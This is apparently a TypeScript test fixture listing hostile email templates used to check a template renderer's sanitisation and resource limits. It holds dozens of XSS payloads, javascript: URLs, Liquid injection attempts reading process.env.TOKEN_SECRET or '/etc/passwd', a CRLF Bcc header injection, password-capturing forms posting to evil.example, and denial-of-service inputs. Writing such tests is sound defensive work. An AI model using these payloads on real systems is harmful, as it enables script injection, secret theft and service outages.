import type { KeptValues } from '@console/core-api';
import type { JsonObject } from '../json.ts';
import type { TemplateContent } from '../renderTemplate.ts';
import { designOf } from './designOf.ts';

/** A template that wants to run something or to keep the server busy. */
export interface HostileTemplate {
  readonly content: TemplateContent;
  /** The values that make it hostile. */
  readonly values?: KeptValues;
}

const html = (body: string, values?: KeptValues): HostileTemplate => ({
  content: { type: 'html', subject: 'Hello', body },
  ...(values && { values }),
});
const subject = (text: string, values?: KeptValues): HostileTemplate => ({
  content: { type: 'html', subject: text, body: '<p>Hello</p>' },
  ...(values && { values }),
});
const design = (blocks: [string, JsonObject][], more?: JsonObject): HostileTemplate => ({
  content: { type: 'unlayer', subject: 'Hello', body: designOf(blocks, more) },
});
const text = (value: string): HostileTemplate => design([['text', { text: value }]]);
const json = (body: string): HostileTemplate => ({ content: { type: 'unlayer', subject: 'Hello', body } });
const named = (name: string): KeptValues => ({ name, link: name, total: 1, items: [{ title: name }] });

const breakOut = '0" onmouseover="hacked()" x="';
const script = '<script>hacked()</script>';

/** Templates whose markup runs something. */
const markup: HostileTemplate[] = [
  script,
  '<SCRIPT src="https://evil.example/x.js"></SCRIPT>',
  '<scr{% if true %}ipt>hacked()</scr{% endif %}ipt>',
  '<script{{ "" }}>hacked()</script>',
  '<img src=x onerror=hacked()>',
  '<img src="x" oNeRrOr="hacked()">',
  '<img/src=x/onerror=hacked()>',
  '<body onload="hacked()">',
  '<svg onload=hacked()>',
  '<svg><script>hacked()</script></svg>',
  '<math><mi xlink:href="javascript:hacked()">x</mi></math>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<iframe src="javascript:hacked()"></iframe>',
  '<object data="javascript:hacked()"></object>',
  '<embed src="javascript:hacked()">',
  '<a href="javascript:hacked()">x</a>',
  '<a href=" java\nscript:hacked()">x</a>',
  '<a href="&#106;avascript:hacked()">x</a>',
  '<a href="vbscript:hacked()">x</a>',
  '<a href="data:text/html,<script>hacked()</script>">x</a>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<button formaction="javascript:hacked()">x</button>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:hacked()">',
  '<div style="width: expression(hacked())">x</div>',
  '<div style="background: url(javascript:hacked())">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding: url(x.xml#y)">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>p { background: url("javascript:hacked()") }</style>',
  '<style>p { wid/**/th: exp/**/ression(hacked()) }</style>',
  '<style></style><script>hacked()</script>',
  '<style><!--</style><script>hacked()</script>-->',
  '<!--><script>hacked()</script>-->',
  '<!--[if !mso]><!--><script>hacked()</script><!--<![endif]-->',
  '<![CDATA[<script>hacked()</script>]]>',
  '<template><script>hacked()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>',
  '<title></title><img src=x onerror=hacked()>',
  '<textarea></textarea><img src=x onerror=hacked()>',
  '<details open ontoggle=hacked()>x</details>',
  '<marquee onstart=hacked()>x</marquee>',
  '<video><source onerror=hacked()></video>',
  '<input autofocus onfocus=hacked()>',
  '<p is="x-evil" onanimationstart="hacked()">x</p>',
  '<a href="https://example.com" ping="https://evil.example">x</a>',
  `<p title="{{ name }}">x</p>${script}`,
].map((body) => html(body));

/** Values that want to leave their place. */
const values: HostileTemplate[] = [
  html('<p>{{ name }}</p>', named(script)),
  html('<p title="{{ name }}">x</p>', named('" onmouseover="hacked()')),
  html("<p title='{{ name }}'>x</p>", named("' onmouseover='hacked()")),
  html('<p title={{ name }}>x</p>', named('x onmouseover=hacked()')),
  html('<a href="{{ link }}">x</a>', named('javascript:hacked()')),
  html('<a href="{{ link }}">x</a>', named(' java\tscript:hacked()')),
  html('<style>p { color: {{ name }} }</style><p>x</p>', named('red } </style><script>hacked()</script>')),
  html('<p style="color: {{ name }}">x</p>', named('red; background: url(javascript:hacked())')),
  html('<p>{{ name | raw }}</p>', named(script)),
  html('{% capture x %}<script>{% endcapture %}{{ x }}hacked()', named('x')),
  html('{% assign x = "<script>hacked()</script>" %}{{ x }}', named('x')),
  html('{% for item in items %}{{ item.title }}{% endfor %}', named(script)),
  html('<!-- {{ name }} -->', named('--><script>hacked()</script>')),
  html('<p>{{ name | replace: "[", "<" | replace: "]", ">" }}</p>', named('[script]hacked()[/script]')),
  html('<{{ name }}>hacked()</{{ name }}>', named('script')),
  html('<p {{ name }}="hacked()">x</p>', named('onclick')),
  html('<p>{% cycle name %}</p>', named('<a href="https://evil.example" id="evil">x</a>')),
  html('<p class={{ name }}>x</p>', named('x id=evil')),
  subject('{{ name }}', named('Hello\r\nBcc: everybody@evil.example')),
  subject('{{ name }}', named('x'.repeat(2_000))),
];

/** Liquid that wants to reach more than the variables, or to keep the server busy. */
const liquid: HostileTemplate[] = [
  '{{ name.constructor }}',
  '{{ name["constructor"]["constructor"] }}',
  '{{ items.__proto__ }}',
  '{{ __proto__.polluted }}',
  '{{ total.valueOf }}',
  '{{ process.env.TOKEN_SECRET }}',
  '{{ this }}{{ globalThis }}',
  "{% include '/etc/passwd' %}",
  "{% render 'package.json' %}",
  "{% layout 'x' %}{% block y %}{% endblock %}",
  '{% for i in (1..100000000) %}x{% endfor %}',
  '{% for i in (1..9999) %}{% for j in (1..9999) %}{% for k in (1..9999) %}x{% endfor %}{% endfor %}{% endfor %}',
  `{% assign x = "xxxxxxxxxx" %}${'{% assign x = x | append: x %}'.repeat(40)}{{ x }}`,
  `{% assign x = "a,b" | split: "," %}${'{% assign x = x | concat: x %}'.repeat(40)}{{ x.size }}`,
  '{{ "<" | strip_html }}{{ "x" | json }}{{ items | inspect }}',
  '{{ name | replace: "", "xxxxxxxxxx" | replace: "", "xxxxxxxxxx" | replace: "", "xxxxxxxxxx" | replace: "", "xxxxxxxxxx" }}',
  `${'{% if true %}'.repeat(7_000)}x${'{% endif %}'.repeat(7_000)}`,
  `{{ ${'name['.repeat(20_000)}1${']'.repeat(20_000)} }}`,
  '{{'.repeat(90_000),
  '{%'.repeat(90_000),
  'x'.repeat(300_000),
].map((body) => html(body));

/** Pages whose drawing takes long. */
const slow: HostileTemplate[] = [
  html('<div>'.repeat(30_000)),
  html('<p>x</p>'.repeat(20_000)),
  html(`<style>${'* '.repeat(60)}p { color: red }</style>${'<div>'.repeat(90)}<b>x</b>`),
  html(`<style>${'a > b ~ c + d '.repeat(20)} { color: red }</style><p>x</p>`),
  html(`<style>${'p:not('.repeat(500)}p${')'.repeat(500)} { color: red }</style><p>x</p>`),
  html(`<style>${'p{'.repeat(20_000)}</style><p>x</p>`),
  html(`<style>${'/*'.repeat(20_000)}</style><p>x</p>`),
  html(`<style>${'.a,'.repeat(15_000)}.b { color: red }</style>${'<p class="a">x</p>'.repeat(3_000)}`),
  html('<style>'.repeat(20_000)),
  html('<!--'.repeat(40_000)),
  html(`<p ${'a="1" '.repeat(25_000)}>x</p>`),
  html('<style'.repeat(33_000)),
  html(`<p style="${'/* '.repeat(66_000)}">x</p>`),
  html('<p style="{% for i in (1..100000) %}/* /* /* {% endfor %}">x</p>'),
  html('{% for i in (1..80000) %}<b>{% endfor %}{% for i in (1..80000) %}</i>{% endfor %}'),
  html(`{% for i in (1..1000) %}{% for j in (1..1000) %}${'x'.repeat(900)}{% endfor %}{% endfor %}`),
  html(`{% assign a = "xxxxxxxxxx" %}${'{% capture a %}{{ a }}{{ a }}{{ a }}{% endcapture %}'.repeat(30)}{{ a }}`),
  html('{{ name }}'.repeat(19_000)),
  html('{{ a }}'.repeat(28_000)),
];

/** Texts that the database does not store, and that must not be told as failures of the server. */
const characters: HostileTemplate[] = [
  html('<p>{{ "a\\u0000b" }}</p>'),
  subject('Hello {{ "a\\u0000b" }}'),
  html(`<a href="${'x'.repeat(59)}😀">x</a>`),
  html('{{ items["\\u0000"] }}'),
  text('a\u0000b'),
  text('\ud800'),
  design([
    ['button', { text: 'x', href: { name: 'email', attrs: {}, values: { email: 'a@b.example', subject: '\ud800' } } }],
  ]),
  json(`{"\\u0000":1,"body":{"rows":[],"values":{}}}`),
];

/** Designs whose values leave their place, or have a form that nobody expects. */
const designs: HostileTemplate[] = [
  text(script),
  text('<p onclick="hacked()">x</p><img src=x onerror=hacked()>'),
  text('<a href="javascript:hacked()">x</a>'),
  text('<p>{{ name.constructor }}</p>'),
  text('<p>{{ na<b>me</b> }}</p>'),
  design([['html', { html: `${script}<iframe src="https://evil.example"></iframe>` }]]),
  design([['text', { text: 'x', containerPadding: breakOut }]]),
  design([['text', { text: 'x', color: 'red;background:url(javascript:hacked())' }]]),
  design([['heading', { text: script, headingType: 'script' }]]),
  design([['heading', { text: 'x', headingType: 'img src=x onerror=hacked() ' }]]),
  design([
    ['button', { text: script, href: { name: 'web', values: { href: 'javascript:hacked()', target: breakOut } } }],
  ]),
  design([
    [
      'button',
      {
        text: 'x',
        href: {
          name: 'web',
          attrs: { onclick: 'hacked()', onClick: 'hacked()' },
          values: { href: 'https://example.com' },
        },
      },
    ],
  ]),
  design([['image', { src: { url: 'x" onerror="hacked()' }, altText: '"><script>hacked()</script>' }]]),
  design([
    [
      'image',
      {
        src: { url: 'https://example.com/x.png', width: breakOut },
        action: { name: 'web', values: { href: ' javascript:hacked()' } },
      },
    ],
  ]),
  design([['divider', { width: breakOut, border: { borderTopColor: breakOut } }]]),
  design([
    ['menu', { menu: { items: [{ text: script, link: { name: 'web', values: { href: 'javascript:hacked()' } } }] } }],
  ]),
  design([['social', { icons: { icons: [{ name: breakOut, url: 'javascript:hacked()' }], iconType: breakOut } }]]),
  design([['video', { video: { url: 'javascript:hacked()', thumbnail: breakOut } }]]),
  design([['table', { table: { headers: [{ cells: [{ text: script }] }], rows: [{ cells: [{ text: script }] }] } }]]),
  design([['timer', { countdown: { countdownUrl: breakOut, endTime: breakOut } }]]),
  design([['text', { text: 'x', _meta: { htmlID: breakOut, htmlClassNames: '"><script>hacked()</script>' } }]]),
  design([['constructor', { text: 'x' }]]),
  design([['__proto__', { text: 'x' }]]),
  design([['form', { html: script }]]),
  design([['text', { text: { toString: 'x' } }]]),
  design([['image', { src: null }]]),
  design([['button', { href: 'x', size: [], border: 7 }]]),
  design([['text', { text: 'x' }]], { backgroundColor: breakOut, preheaderText: script, popupDisplayDelay: 1 }),
  design([['text', { text: 'x' }]], {
    fontFamily: { value: `x;} </style><script>hacked()</script>` },
    linkStyle: { linkColor: '</style><script>hacked()</script>' },
  }),
  json('{'),
  json('null'),
  json('[]'),
  json('{"body":{"rows":{},"values":{}}}'),
  json('{"body":{"rows":[{"cells":["x"],"columns":[],"values":{}}],"values":{}}}'),
  json('{"__proto__":{"polluted":true},"body":{"rows":[],"values":{}}}'),
  json(`${'{"body":'.repeat(50_000)}1${'}'.repeat(50_000)}`),
  json('['.repeat(300_000)),
  design(Array.from({ length: 301 }, () => ['text', { text: 'x' }])),
  design(Array.from({ length: 300 }, () => ['text', { text: '<b>'.repeat(300) }])),
  // Each text alone takes less time than a mail may take.
  design(
    Array.from({ length: 300 }, () => [
      'text',
      { text: '{% for i in (1..60000) %}{% assign x = i | plus: 1 %}{% endfor %}' },
    ]),
  ),
  text(`${'<b>'.repeat(60_000)}${'</i>'.repeat(40_000)}`),
  text('{{'.repeat(95_000)),
  json(
    `{"body":{"rows":[${Array(6_000).fill('{"values":{},"cells":[1],"columns":[{"values":{},"contents":[]}]}').join(',')}],"values":{}}}`,
  ),
  json(`{"body":{"rows":[],"values":{}},"more":[${Array(190_000).fill(0).join(',')}]}`),
];

export const hostileTemplates: readonly HostileTemplate[] = [
  ...markup,
  ...values,
  ...liquid,
  ...slow,
  ...characters,
  ...designs,
];
